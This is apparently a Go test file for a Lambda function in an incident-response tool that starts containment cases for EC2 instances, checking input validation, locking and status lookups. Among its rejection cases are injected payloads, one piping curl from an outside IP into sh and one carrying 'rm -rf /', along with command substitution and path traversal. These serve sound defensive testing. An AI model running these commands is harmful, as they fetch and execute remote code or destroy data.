package trigger_test

import (
	"encoding/base64"
	"fmt"
	"net/http"
	"reflect"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/aws/aws-lambda-go/events"

	"github.com/responder-ir/responder/lambda/trigger"
)

func TestPostCasesStartsOneExecutionNamedAfterTheCase(t *testing.T) {
	for _, tc := range []struct {
		name      string
		event     func(e *env) []byte
		actor     string
		statusURL string
	}{
		{"REST API v1", func(e *env) []byte { return e.event("apigw-v1-post-cases.json") }, actorV1,
			"https://a1b2c3d4e5.execute-api.us-east-1.amazonaws.com/v1/cases/"},
		{"HTTP API v2", func(e *env) []byte { return e.event("apigw-v2-post-cases.json") }, actorV2,
			"https://f6g7h8i9j0.execute-api.us-east-1.amazonaws.com/cases/"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			e := newEnv(t)
			a := decodeAPI(t, e.mustHandle(tc.event(e)))
			if a.Status != http.StatusAccepted {
				t.Fatalf("status %d, want 202: %s", a.Status, a.Raw)
			}
			caseID, _ := a.Body["case_id"].(string)
			if !strings.HasPrefix(caseID, "case-20251123-101500-") {
				t.Errorf("case_id = %q, want a new case-YYYYMMDD-HHMMSS-xxxxxxxx", caseID)
			}
			if got := a.Body["status_url"]; got != tc.statusURL+caseID {
				t.Errorf("status_url = %v, want %s%s", got, tc.statusURL, caseID)
			}
			if a.Headers["Location"] != a.Body["status_url"] {
				t.Errorf("Location = %q, want the status URL", a.Headers["Location"])
			}

			// The resulting state: one execution, named after the case,
			// whose input is the case; one lock object.
			exs := e.sfn.Executions()
			if len(exs) != 1 {
				t.Fatalf("%d executions, want 1", len(exs))
			}
			ex := exs[0]
			if ex.Name != caseID || a.Body["execution_arn"] != ex.ARN {
				t.Errorf("execution %s (%s), answer %v; want it named %s", ex.Name, ex.ARN, a.Body["execution_arn"], caseID)
			}
			in := executionInput(t, ex)
			want := trigger.CaseInput{CaseID: caseID, InstanceID: e.suspect.InstanceID, AccountID: e.cloud.Account, Region: e.cloud.Region,
				Playbook: "default", Actor: tc.actor, Source: "api", RequestedAt: "2025-11-23T10:15:00Z", Findings: []trigger.FindingRef{}}
			if !reflect.DeepEqual(in, want) {
				t.Errorf("execution input = %+v\nwant %+v", in, want)
			}
			if locks := e.lockObjects(); len(locks) != 1 ||
				locks[0] != "cases/locks/111122223333/us-east-1/"+e.suspect.InstanceID+"/20251123T1010Z.json" {
				t.Errorf("lock objects = %v", locks)
			}
		})
	}
}

func TestPostCasesOptionalFields(t *testing.T) {
	e := newEnv(t)
	body := fmt.Sprintf(`{"instance_id": %q, "account_id": "111122223333", "region": "us-east-1", "playbook": "default", "case_id": "INC-4711"}`, e.suspect.InstanceID)
	a := decodeAPI(t, e.mustHandle(e.postV1(body)))
	if a.Status != http.StatusAccepted || a.Body["case_id"] != "INC-4711" {
		t.Fatalf("answer %d %v, want 202 for case INC-4711", a.Status, a.Body)
	}
	in := executionInput(t, e.sfn.Executions()[0])
	if !in.CaseIDGiven || in.CaseID != "INC-4711" {
		t.Errorf("execution input %+v: want the given case ID, marked as given", in)
	}
}

func TestPostCasesBase64Body(t *testing.T) {
	e := newEnv(t)
	body := base64.StdEncoding.EncodeToString([]byte(`{"instance_id":"` + e.suspect.InstanceID + `"}`))
	a := decodeAPI(t, e.mustHandle(e.postV2(body, func(r *events.APIGatewayV2HTTPRequest) { r.IsBase64Encoded = true })))
	if a.Status != http.StatusAccepted {
		t.Fatalf("status %d: %s", a.Status, a.Raw)
	}
}

// Every bad request is answered with a JSON error of the right status and
// code, saying nothing of the internals, and changes nothing: no lock, no
// execution.
func TestPostCasesRejectsBadInput(t *testing.T) {
	huge := `{"instance_id": "i-0123456789abcdef0", "pad": "` + strings.Repeat("A", 1<<20) + `"}`
	for _, tc := range []struct {
		name   string
		body   string
		base64 bool
		edit   func(headers map[string]string) // on the request headers
		noUser bool
		status int
		code   string
	}{
		{name: "malformed JSON", body: `{"instance_id": "i-0123456789abcdef0"`, status: 400, code: "malformed_json"},
		{name: "not JSON", body: `instance_id=i-0123456789abcdef0`, status: 400, code: "malformed_json"},
		{name: "two JSON values", body: `{"instance_id": "i-0123456789abcdef0"} {"instance_id": "i-0123456789abcdef1"}`, status: 400, code: "malformed_json"},
		{name: "a JSON array", body: `["i-0123456789abcdef0"]`, status: 400, code: "wrong_type"},
		{name: "a 1 MB body", body: huge, status: 413, code: "body_too_large"},
		{name: "a 1 MB base64 body", body: base64.StdEncoding.EncodeToString([]byte(huge)), base64: true, status: 413, code: "body_too_large"},
		{name: "bad base64", body: "not base64!", base64: true, status: 400, code: "malformed_body"},
		{name: "empty body", body: ``, status: 400, code: "empty_body"},
		{name: "instance_id a number", body: `{"instance_id": 12345}`, status: 400, code: "wrong_type"},
		{name: "instance_id an object", body: `{"instance_id": {"id": "i-0123456789abcdef0"}}`, status: 400, code: "wrong_type"},
		{name: "account_id a number", body: `{"instance_id": "i-0123456789abcdef0", "account_id": 111122223333}`, status: 400, code: "wrong_type"},
		{name: "unknown field", body: `{"instance_id": "i-0123456789abcdef0", "dry_run": true}`, status: 400, code: "unknown_field"},
		{name: "field of another case", body: `{"Instance_ID": "i-0123456789abcdef0", "InstanceId": "x"}`, status: 400, code: "unknown_field"},
		{name: "no instance_id", body: `{}`, status: 400, code: "missing_instance_id"},
		{name: "shell characters", body: `{"instance_id": "i-0123456789abcdef0; curl http://198.51.100.7/x | sh"}`, status: 400, code: "invalid_instance_id"},
		{name: "command substitution", body: `{"instance_id": "$(reboot)"}`, status: 400, code: "invalid_instance_id"},
		{name: "path traversal", body: `{"instance_id": "../../cases/other/manifest.json"}`, status: 400, code: "invalid_instance_id"},
		{name: "instance ID with a path", body: `{"instance_id": "i-0123456789abcdef0/../../x"}`, status: 400, code: "invalid_instance_id"},
		{name: "uppercase instance ID", body: `{"instance_id": "I-0123456789ABCDEF0"}`, status: 400, code: "invalid_instance_id"},
		{name: "newline in instance ID", body: `{"instance_id": "i-0123456789abcdef0\n"}`, status: 400, code: "invalid_instance_id"},
		{name: "short account", body: `{"instance_id": "i-0123456789abcdef0", "account_id": "12345"}`, status: 400, code: "invalid_account_id"},
		{name: "account with letters", body: `{"instance_id": "i-0123456789abcdef0", "account_id": "11112222333a"}`, status: 400, code: "invalid_account_id"},
		{name: "account not allowed", body: `{"instance_id": "i-0123456789abcdef0", "account_id": "` + otherAccount + `"}`, status: 403, code: "account_not_allowed"},
		{name: "bad region", body: `{"instance_id": "i-0123456789abcdef0", "region": "us-east-1; rm -rf /"}`, status: 400, code: "invalid_region"},
		{name: "unknown playbook", body: `{"instance_id": "i-0123456789abcdef0", "playbook": "nuke"}`, status: 400, code: "unknown_playbook"},
		{name: "collect playbook", body: `{"instance_id": "i-0123456789abcdef0", "playbook": "collect"}`, status: 400, code: "unsupported_playbook"},
		{name: "collect-before-isolate playbook", body: `{"instance_id": "i-0123456789abcdef0", "playbook": "collect-before-isolate"}`, status: 400, code: "unsupported_playbook"},
		{name: "case ID with a path", body: `{"instance_id": "i-0123456789abcdef0", "case_id": "../other"}`, status: 400, code: "invalid_case_id"},
		{name: "case ID too long", body: `{"instance_id": "i-0123456789abcdef0", "case_id": "` + strings.Repeat("c", 65) + `"}`, status: 400, code: "invalid_case_id"},
		{name: "reserved case ID", body: `{"instance_id": "i-0123456789abcdef0", "case_id": "locks"}`, status: 400, code: "invalid_case_id"},
		{name: "reserved case ID in capitals", body: `{"instance_id": "i-0123456789abcdef0", "case_id": "Locks"}`, status: 400, code: "invalid_case_id"},
		{name: "not JSON content", body: `{"instance_id": "i-0123456789abcdef0"}`, edit: func(h map[string]string) { h["content-type"] = "text/plain" },
			status: 415, code: "unsupported_media_type"},
		{name: "no IAM identity", body: `{"instance_id": "i-0123456789abcdef0"}`, noUser: true, status: 403, code: "unauthenticated"},
	} {
		for _, version := range []string{"v1", "v2"} {
			t.Run(tc.name+"/"+version, func(t *testing.T) {
				e := newEnv(t)
				body := strings.ReplaceAll(tc.body, sampleInstance, e.suspect.InstanceID)
				var event []byte
				if version == "v1" {
					event = e.postV1(body, func(r *events.APIGatewayProxyRequest) {
						r.IsBase64Encoded = tc.base64
						if tc.noUser {
							r.RequestContext.Identity.UserArn = ""
						}
						if tc.edit != nil {
							r.Headers = map[string]string{"content-type": "application/json"}
							tc.edit(r.Headers)
						}
					})
				} else {
					event = e.postV2(body, func(r *events.APIGatewayV2HTTPRequest) {
						r.IsBase64Encoded = tc.base64
						if tc.noUser {
							r.RequestContext.Authorizer = nil
						}
						if tc.edit != nil {
							tc.edit(r.Headers)
						}
					})
				}
				a := decodeAPI(t, e.mustHandle(event))
				if a.Status != tc.status || a.Body["code"] != tc.code {
					t.Fatalf("answer %d %v, want %d %s", a.Status, a.Body, tc.status, tc.code)
				}
				assertErrorBody(t, a)
				if exs := e.sfn.Executions(); len(exs) != 0 {
					t.Errorf("bad input started %d execution(s)", len(exs))
				}
				if locks := e.lockObjects(); len(locks) != 0 {
					t.Errorf("bad input took locks %v", locks)
				}
			})
		}
	}
}

// assertErrorBody checks an error answer: error, code and request_id only,
// a short message, nothing of Go's or AWS's internals.
// A playbook that collects OS-level evidence needs the collection's
// configuration: without it the answer says which variables and where to
// run it instead; an unknown one lists the playbooks.
func TestPostCasesPlaybookMessages(t *testing.T) {
	const unconfigured = "it collects memory through SSM, which this function is not configured for (RESPONDER_STAGING_BUCKET and RESPONDER_MEMORY_TOOLS)"
	for _, tc := range []struct{ playbook, code, message string }{
		{"collect", "unsupported_playbook", "playbook collect is not run by this function: " + unconfigured +
			"; run it from the CLI (responder respond --playbook collect)"},
		{"collect-before-isolate", "unsupported_playbook", "playbook collect-before-isolate is not run by this function: " + unconfigured +
			"; run it from the CLI (responder respond --playbook collect-before-isolate)"},
		{"nuke", "unknown_playbook", `unknown playbook "nuke" (known: collect, collect-before-isolate, default)`},
	} {
		t.Run(tc.playbook, func(t *testing.T) {
			e := newEnv(t)
			a := decodeAPI(t, e.mustHandle(e.postV1(fmt.Sprintf(`{"instance_id": %q, "playbook": %q}`, e.suspect.InstanceID, tc.playbook))))
			if a.Status != http.StatusBadRequest || a.Body["code"] != tc.code || a.Body["error"] != tc.message {
				t.Fatalf("answer %d %v\nwant 400 %s %q", a.Status, a.Body, tc.code, tc.message)
			}
		})
	}
}

func TestLambdaPlaybooks(t *testing.T) {
	if !slices.Equal(trigger.Playbooks, []string{"default"}) {
		t.Errorf("Playbooks = %v, want the playbooks without OS-level collection: [default]", trigger.Playbooks)
	}
}

func assertErrorBody(t *testing.T, a apiAnswer) {
	t.Helper()
	for k := range a.Body {
		if k != "error" && k != "code" && k != "request_id" && k != "case_id" {
			t.Errorf("error answer has field %q: %s", k, a.Raw)
		}
	}
	msg, _ := a.Body["error"].(string)
	if msg == "" || len(msg) > 300 {
		t.Errorf("error message of %d bytes: %q", len(msg), msg)
	}
	for _, leak := range []string{"goroutine", ".go:", "json: ", "smithy", "operation error", "s3://", "arn:aws:states", "panic"} {
		if strings.Contains(a.Raw, leak) {
			t.Errorf("error answer leaks %q: %s", leak, a.Raw)
		}
	}
}

func TestAPIRoutes(t *testing.T) {
	for _, tc := range []struct {
		name   string
		edit   func(r *events.APIGatewayProxyRequest)
		status int
		code   string
		allow  string
	}{
		{"GET /cases", func(r *events.APIGatewayProxyRequest) { r.HTTPMethod = "GET" }, 405, "method_not_allowed", "POST"},
		{"DELETE /cases/{id}", func(r *events.APIGatewayProxyRequest) {
			r.HTTPMethod, r.Resource, r.Path, r.PathParameters = "DELETE", "/cases/{id}", "/cases/x", map[string]string{"id": "x"}
		}, 405, "method_not_allowed", "GET"},
		{"unknown resource", func(r *events.APIGatewayProxyRequest) { r.Resource, r.Path = "/{proxy+}", "/admin" }, 404, "not_found", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			e := newEnv(t)
			a := decodeAPI(t, e.mustHandle(e.postV1(`{}`, tc.edit)))
			if a.Status != tc.status || a.Body["code"] != tc.code || a.Headers["Allow"] != tc.allow {
				t.Fatalf("answer %d %v (Allow %q), want %d %s (Allow %q)", a.Status, a.Body, a.Headers["Allow"], tc.status, tc.code, tc.allow)
			}
			assertErrorBody(t, a)
		})
	}
}

// A $default route or a {proxy+} resource still finds /cases in the path,
// after a stage or base path.
func TestAPIRouteFromPath(t *testing.T) {
	e := newEnv(t)
	event := e.postV2(`{"instance_id":"`+e.suspect.InstanceID+`"}`, func(r *events.APIGatewayV2HTTPRequest) {
		r.RouteKey, r.RequestContext.RouteKey, r.RawPath = "$default", "$default", "/prod/cases"
	})
	a := decodeAPI(t, e.mustHandle(event))
	if a.Status != http.StatusAccepted {
		t.Fatalf("status %d: %s", a.Status, a.Raw)
	}
	if url, _ := a.Body["status_url"].(string); !strings.HasPrefix(url, "https://f6g7h8i9j0.execute-api.us-east-1.amazonaws.com/prod/cases/case-") {
		t.Errorf("status_url = %q", url)
	}
}

// Two requests for the same instance at the same time produce one response:
// one lock, one execution, the same case ID in every answer.
func TestConcurrentRequestsMakeOneCase(t *testing.T) {
	e := newEnv(t)
	e.cloud.Latency = 2 * time.Millisecond // widen the race between HEAD and PUT
	const n = 12
	answers := make([]apiAnswer, n)
	var wg sync.WaitGroup
	for i := range n {
		wg.Add(1)
		go func() {
			defer wg.Done()
			var ev []byte
			if i%2 == 0 {
				ev = e.event("apigw-v1-post-cases.json")
			} else {
				ev = e.event("apigw-v2-post-cases.json")
			}
			out, err := e.handle(ev)
			if err != nil {
				t.Errorf("request %d: %v", i, err)
				return
			}
			answers[i] = decodeAPI(t, out)
		}()
	}
	wg.Wait()
	caseIDs := map[any]bool{}
	joined := 0
	for i, a := range answers {
		if a.Status != http.StatusAccepted {
			t.Fatalf("request %d: %d %s", i, a.Status, a.Raw)
		}
		caseIDs[a.Body["case_id"]] = true
		if a.Body["joined"] == true {
			joined++
		}
	}
	if len(caseIDs) != 1 {
		t.Errorf("%d case IDs for one instance: %v", len(caseIDs), caseIDs)
	}
	if joined != n-1 {
		t.Errorf("%d answers joined the case, want %d", joined, n-1)
	}
	if exs := e.sfn.Executions(); len(exs) != 1 {
		t.Errorf("%d executions, want 1", len(exs))
	}
	if locks := e.lockObjects(); len(locks) != 1 {
		t.Errorf("lock objects %v, want 1", locks)
	}
}

func TestLockWindow(t *testing.T) {
	e := newEnv(t)
	post := func() apiAnswer { return decodeAPI(t, e.mustHandle(e.event("apigw-v1-post-cases.json"))) }
	first := post()

	// 9 minutes later, across a window boundary (10:15 -> 10:24): joins.
	e.clock.Advance(9 * time.Minute)
	if a := post(); a.Body["case_id"] != first.Body["case_id"] || a.Body["joined"] != true {
		t.Errorf("9 minutes later: %v, want to join %v", a.Body, first.Body["case_id"])
	}
	// 11 minutes after the first: a new case.
	e.clock.Advance(2 * time.Minute)
	third := post()
	if third.Body["case_id"] == first.Body["case_id"] || third.Body["joined"] != nil {
		t.Errorf("11 minutes later: %v, want a new case", third.Body)
	}
	if exs := e.sfn.Executions(); len(exs) != 2 {
		t.Errorf("%d executions, want 2", len(exs))
	}
}

// A request that names its own case for an instance another case holds is
// refused with the holder's case ID; the same case ID again is accepted.
func TestPostCasesBusyInstance(t *testing.T) {
	e := newEnv(t)
	body := func(caseID string) string {
		return fmt.Sprintf(`{"instance_id": %q, "case_id": %q}`, e.suspect.InstanceID, caseID)
	}
	if a := decodeAPI(t, e.mustHandle(e.postV1(body("INC-1")))); a.Status != http.StatusAccepted {
		t.Fatalf("first: %d %s", a.Status, a.Raw)
	}
	a := decodeAPI(t, e.mustHandle(e.postV1(body("INC-2"))))
	if a.Status != http.StatusConflict || a.Body["code"] != "instance_busy" || a.Body["case_id"] != "INC-1" {
		t.Errorf("other case: %d %s, want 409 instance_busy naming INC-1", a.Status, a.Raw)
	}
	assertErrorBody(t, a)
	if a := decodeAPI(t, e.mustHandle(e.postV1(body("INC-1")))); a.Status != http.StatusAccepted || a.Body["joined"] != true {
		t.Errorf("same case again: %d %s, want 202 joined", a.Status, a.Raw)
	}
	if exs := e.sfn.Executions(); len(exs) != 1 {
		t.Errorf("%d executions, want 1", len(exs))
	}
}

// A retried event whose first attempt took the lock but failed to start the
// execution starts it, with the first attempt's case.
func TestJoinStartsAMissingExecution(t *testing.T) {
	e := newEnv(t)
	e.sfn.FailNext("StartExecution", fmt.Errorf("connection reset"))
	if a := decodeAPI(t, e.mustHandle(e.event("apigw-v1-post-cases.json"))); a.Status != http.StatusInternalServerError {
		t.Fatalf("first attempt: %d %s, want 500", a.Status, a.Raw)
	} else {
		assertErrorBody(t, a)
	}
	a := decodeAPI(t, e.mustHandle(e.event("apigw-v1-post-cases.json")))
	if a.Status != http.StatusAccepted {
		t.Fatalf("retry: %d %s", a.Status, a.Raw)
	}
	exs := e.sfn.Executions()
	if len(exs) != 1 || exs[0].Name != a.Body["case_id"] {
		t.Errorf("executions %+v, want one for %v", exs, a.Body["case_id"])
	}
}

// Re-running a case after the lock window makes a second execution of the
// same case ID, named after it with the time of the request.
func TestRerunOfACase(t *testing.T) {
	e := newEnv(t)
	body := `{"instance_id": "` + e.suspect.InstanceID + `", "case_id": "INC-7"}`
	e.mustHandle(e.postV1(body))
	e.clock.Advance(time.Hour)
	a := decodeAPI(t, e.mustHandle(e.postV1(body)))
	if a.Status != http.StatusAccepted || a.Body["case_id"] != "INC-7" {
		t.Fatalf("rerun: %d %s", a.Status, a.Raw)
	}
	var names []string
	for _, ex := range e.sfn.Executions() {
		names = append(names, ex.Name)
	}
	if want := []string{"INC-7", "INC-7-251123T111500"}; !slices.Equal(names, want) {
		t.Errorf("executions %v, want %v", names, want)
	}
}

func TestGetCase(t *testing.T) {
	e := newEnv(t)

	// Unknown case: 404.
	a := decodeAPI(t, e.mustHandle(e.getV1("case-unknown")))
	if a.Status != http.StatusNotFound || a.Body["code"] != "case_not_found" {
		t.Fatalf("unknown case: %d %s", a.Status, a.Raw)
	}
	// Bad case ID: 400.
	a = decodeAPI(t, e.mustHandle(e.getV1("../x")))
	if a.Status != http.StatusBadRequest || a.Body["code"] != "invalid_case_id" {
		t.Fatalf("bad case ID: %d %s", a.Status, a.Raw)
	}

	// Started, not responded yet: pending.
	started := decodeAPI(t, e.mustHandle(e.event("apigw-v1-post-cases.json")))
	caseID := started.Body["case_id"].(string)
	a = decodeAPI(t, e.mustHandle(e.getV1(caseID)))
	if a.Status != http.StatusOK || a.Body["status"] != "pending" {
		t.Fatalf("started case: %d %s, want 200 pending", a.Status, a.Raw)
	}

	// After the respond task: the record's summary.
	e.mustHandle(respondPayload(t, e.sfn.Executions()[0]))
	a = decodeAPI(t, e.mustHandle(e.getV1(caseID)))
	if a.Status != http.StatusOK || a.Body["status"] != "contained" || a.Body["actor"] != actorV1 ||
		a.Body["instance_id"] != e.suspect.InstanceID || a.Body["location"] != "s3://"+bucketName+"/cases/"+caseID+"/" {
		t.Fatalf("responded case: %d %s", a.Status, a.Raw)
	}
	if snaps, _ := a.Body["snapshots"].([]any); len(snaps) != len(e.suspect.VolumeIDs) {
		t.Errorf("snapshots %v, want one per volume", a.Body["snapshots"])
	}
	if ex, _ := a.Body["execution"].(map[string]any); ex["status"] != "RUNNING" {
		t.Errorf("execution %v, want RUNNING", a.Body["execution"])
	}
}
